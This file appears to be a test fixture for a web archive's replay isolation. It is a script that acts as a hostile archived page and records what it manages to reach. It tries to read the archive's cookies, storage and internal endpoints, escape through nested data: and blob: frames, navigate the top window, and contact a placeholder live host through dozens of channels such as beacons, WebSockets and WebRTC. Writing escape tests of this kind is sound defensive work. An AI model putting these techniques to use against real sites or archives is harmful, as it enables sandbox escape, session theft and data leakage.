// Everything that a page can try while it runs. What it gets to see is left in window.seen for the test.
(async function () {
  const live = "{{live}}";
  const native = window["loc" + "ation"];
  const archive = native.origin;
  window.seen = {};
  const attempts = {};
  const attempt = (name, work) => { attempts[name] = Promise.resolve().then(work).then((value) => { seen[name] = String(value); }, (error) => { seen[name] = "refused: " + error; }); };

  const attribute = (element, name, value) => {
    const node = document.createAttribute(name);
    node.value = value;
    element.setAttributeNode(node);
    return document.body.appendChild(element);
  };
  const answers = [];
  window.addEventListener("message", ({ data }) => {
    if (data.name) {
      seen[data.name] = data.value;
    } else if (answers[data.number]) {
      answers[data.number](data);
    }
  });
  const nested = (code) => new Promise((resolve, reject) => {
    const number = answers.push(({ value, error }) => (error ? reject(error) : resolve(value))) - 1;
    const script = `(async () => ${code})().then((value) => parent.postMessage({ number: ${number}, value: String(value) }, "*"), (error) => parent.postMessage({ number: ${number}, error: String(error) }, "*"))`;
    attribute(document.createElement("iframe"), "src", "data:text/html," + encodeURIComponent("<script>" + script + "</scr" + "ipt>"));
  });

  // ---- the archive's own pages, cookies, storage ----
  const key = native.pathname.split("/")[2];
  const own = ["/", "/dashboard", "/api/v1/stat", "/api/v1/jobs", "/metrics", "/cdx?url=*", "/save", "/web/*/example.org", `/web/${key}/*/example.org`, `/web/${key}/*/*.example.org`];
  for (const path of own) {
    attempt("read " + path, async () => (await fetch(archive + path)).text());
    attempt("import " + path, () => import(archive + path));
    // A frame that the archive has not prepared has the browser's own functions.
    attempt("nested read " + path, () => nested(`(await fetch(${JSON.stringify(archive + path)})).text()`));
    attempt("nested quiet " + path, () => nested(`(await fetch(${JSON.stringify(archive + path)}, { mode: "no-cors", credentials: "include" })).text()`));
  }
  attempt("parent document", () => parent.document.title);
  attempt("top document", () => window["to" + "p"].document.title);
  attempt("top storage", () => window["to" + "p"].localStorage.length);
  attempt("cookie", () => document.cookie);
  attempt("cookie store", async () => JSON.stringify(await cookieStore.getAll()));
  attempt("storage", () => JSON.stringify(localStorage) + localStorage.getItem("secret"));
  attempt("databases", async () => JSON.stringify(await indexedDB.databases()));
  attempt("cache", async () => JSON.stringify(await caches.keys()));
  attempt("frame element", () => window.frameElement.ownerDocument.title);
  attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
  attempt("shared worker", () => new SharedWorker("/shared.js"));
  attempt("opener", () => window.opener.document.title);
  attempt("top navigation", () => { window["to" + "p"]["location"] = live + "/top"; return "tried"; });
  attempt("top replace", () => { window["to" + "p"]["location"].replace(live + "/top-replace"); return "tried"; });
  attempt("window", () => String(window.open(live + "/window")));
  attempt("save", async () => (await fetch(archive + "/save", { method: "POST", mode: "no-cors", body: new URLSearchParams({ url: live + "/saved" }) })).type);
  attempt("save get", async () => (await fetch(archive + "/save/" + live + "/saved", { mode: "no-cors" })).type);
  attempt("job", async () => (await fetch(archive + "/api/v1/jobs", { method: "POST", mode: "no-cors", body: JSON.stringify({ seeds: [live + "/job"] }) })).type);

  // ---- the live web, through the page's own shims and beside them ----
  const go = (name) => live + "/run-" + name;
  const markup = (name) => `<img src="${go(name)}"><script>fetch("${go(name + "-fetch")}", {mode: "no-cors"})</scr` + `ipt><link rel="preconnect" href="${live}"><link rel="dns-prefetch" href="${live}"><link rel="stylesheet" href="${go(name + "-style")}"><link rel="prefetch" href="${go(name + "-prefetch")}">`;
  attempt("fetch", async () => (await fetch(go("fetch"))).text());
  attempt("fetch quietly", async () => (await fetch(go("no-cors"), { mode: "no-cors" })).type);
  attempt("beacon", () => navigator.sendBeacon(go("beacon"), "x"));
  attempt("socket", () => new WebSocket(live.replace("http", "ws")).url);
  attempt("events", () => new EventSource(go("events")).url);
  attempt("transport", () => new WebTransport(live.replace("http", "https")).ready);
  attempt("image", () => { new Image().src = go("image"); });
  attempt("import", () => import(go("import")));
  attempt("worker", () => new Worker(URL.createObjectURL(new Blob([`fetch("${go("worker")}", {mode: "no-cors"}); try { importScripts("${go("worker-import")}") } catch {} new WebSocket("${live.replace("http", "ws")}")`]))));
  attempt("style", () => { document.body.style.backgroundImage = `url(${go("style")})`; return getComputedStyle(document.body).backgroundImage && document.body.offsetWidth; });
  attempt("font", () => new FontFace("x", `url(${go("font")})`).load());
  attempt("paint", () => CSS.paintWorklet.addModule(go("paint")));
  attempt("audio", () => { new Audio(go("audio")).play(); });
  for (const tag of ["img", "iframe", "frame", "embed", "script", "audio", "video", "track", "input"]) {
    attempt("node " + tag, () => { const one = document.createElement(tag); one.type = tag === "input" ? "image" : one.type; attribute(one, "src", go("node-" + tag)); });
  }
  attempt("node object", () => { attribute(document.createElement("object"), "data", go("node-object")); });
  for (const rel of ["stylesheet", "preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender", "icon", "manifest", "compression-dictionary"]) {
    attempt("node link " + rel, () => { const link = document.createElement("link"); link.rel = rel; link.as = "image"; attribute(link, "href", rel === "preconnect" ? live : go("node-" + rel)); });
  }
  attempt("node srcdoc", () => { attribute(document.createElement("iframe"), "srcdoc", markup("srcdoc")); });
  attempt("node data", () => { attribute(document.createElement("iframe"), "src", "data:text/html," + encodeURIComponent(markup("data"))); });
  attempt("node blob", () => { attribute(document.createElement("iframe"), "src", URL.createObjectURL(new Blob([markup("blob")], { type: "text/html" }))); });
  attempt("node javascript", () => { attribute(document.createElement("iframe"), "src", "javascript:" + JSON.stringify(markup("javascript"))); });
  attempt("rules", () => { const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ prefetch: [{ urls: [go("rules")] }] }); document.body.append(rules); });
  attempt("form", () => {
    const form = document.body.appendChild(document.createElement("form"));
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.name = form.target = "inside";
    form.method = "POST";
    attribute(form, "action", go("form"));
    HTMLFormElement.prototype.submit.call(form);
  });
  attempt("nested top", () => { attribute(document.createElement("iframe"), "srcdoc", `<script>top.location = "${go("nested-top")}"; parent.location = "${go("nested-parent")}"; window.open("${go("nested-open")}")</scr` + "ipt>"); });
  const peer = `new Promise(async (resolve) => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:{{stun}}" }] }); peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); setTimeout(resolve, 1500, "tried"); })`;
  attempt("peer", () => (0, eval)(peer));
  attempt("nested peer", () => nested(peer));
  attempt("nested cookie", () => nested("document.cookie"));
  attempt("nested storage", () => nested("localStorage.length"));
  attempt("nested beacon", () => nested(`navigator.sendBeacon("${go("nested-beacon")}", "x")`));
  attempt("nested socket", () => nested(`new WebSocket("${live.replace("http", "ws")}").url`));
  attempt("nested window", () => nested(`window.open("${go("nested-window")}")`));
  attempt("nested save", () => nested(`(await fetch("${archive}/save", { method: "POST", mode: "no-cors", body: new URLSearchParams({ url: "${go("nested-saved")}" }) })).type`));
  document.getElementById("ping").dispatchEvent(new MouseEvent("mousedown"));
  await Promise.race([Promise.all(Object.values(attempts)), new Promise((resolve) => setTimeout(resolve, 3000))]);
  window.isAttackDone = true;
})();
